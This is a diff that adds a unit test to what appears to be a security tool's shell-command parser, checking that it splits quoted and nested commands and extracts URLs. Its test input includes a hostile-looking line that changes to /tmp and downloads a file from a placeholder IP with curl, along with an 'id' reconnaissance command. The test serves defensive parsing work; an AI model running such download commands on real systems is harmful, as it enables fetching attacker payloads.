@@ -307,6 +307,22 @@ test('PowerShell, and hashes by name', () => {
   ]);
 });
 
+test('quotes keep a command together, and a shell in a shell is looked into', () => {
+  const found = facts(
+    `awk '{print $1; print $2;}' /proc/x | wc -l\nsh -c "cd /tmp; curl -O http://192.0.2.5/x"\necho 'never closed; id\n`,
+    { protocol: 'shell' },
+  );
+  assert.deepEqual(found.command, [
+    "awk '{print $1; print $2;}' /proc/x",
+    'wc -l',
+    'cd /tmp',
+    'curl -O http://192.0.2.5/x',
+    "echo 'never closed",
+    'id',
+  ]);
+  assert.deepEqual([found.url, found.file], [['http://192.0.2.5/x'], undefined]);
+});
+
 test('what rules captured counts', () => {
   const hit = {
     rule: 'r',
